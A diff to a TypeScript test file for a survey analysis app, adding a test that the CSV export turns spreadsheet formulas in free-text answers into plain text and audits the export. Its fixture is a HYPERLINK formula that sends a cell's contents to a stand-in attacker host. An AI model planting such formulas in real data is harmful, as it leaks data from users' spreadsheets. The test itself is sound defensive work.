@@ -2,6 +2,7 @@
 // the settings form, the comparison of two waves, exports, and the public report of a closed wave.
 import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
+import { parse as parseCsv } from 'csv-parse/sync';
 import type { Hono } from 'hono';
 import type { Kysely } from 'kysely';
 import { createAccountForTest, formPost, getAs, signInForTest, type TestSession } from '../accounts/testing.js';
@@ -264,4 +265,34 @@ test('a closed wave’s report is public; an open or draft one is not', async ()
   assert.equal(pdf.headers.get('content-type'), 'application/pdf');
   assert.equal((await app.request('/reports/follow-up')).status, 404);
   assert.ok((await (await app.request('/reports?lang=en')).text()).includes('/reports/lv-2004'));
+});
+
+test('the CSV export writes free text that a spreadsheet would run as a formula as text', async () => {
+  const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
+  const wave = await createWave(db, {
+    questionnaireKey: 'lv-2004',
+    name: 'Formula wave',
+    key: 'formula',
+    sample: { source: 'import' },
+  });
+  const csv = [
+    'respondent_id,institution_type,territory,mode,documents_provides,documents_provided_what',
+    `R001,municipal,Rīga,online,yes,"${formula.replace(/"/g, '""')}"`,
+  ].join('\n');
+  await importResponses(db, wave, `${csv}\n`);
+  const response = await getAs(app, '/staff/analysis/formula/export.csv?lang=en', analyst);
+  assert.equal(response.status, 200);
+  const [header, row] = parseCsv(await response.text()) as string[][];
+  assert.equal(row![header!.indexOf('documents_provided_what')], `'${formula}`);
+  const audited = await db
+    .selectFrom('audit_event')
+    .select(['account_id', 'details'])
+    .where('action', '=', 'analysis.answers.export')
+    .where('entity_id', '=', 'formula')
+    .execute();
+  assert.deepEqual(
+    audited.map((event) => event.details),
+    [{ format: 'csv' }],
+    'the answer export is audited',
+  );
 });
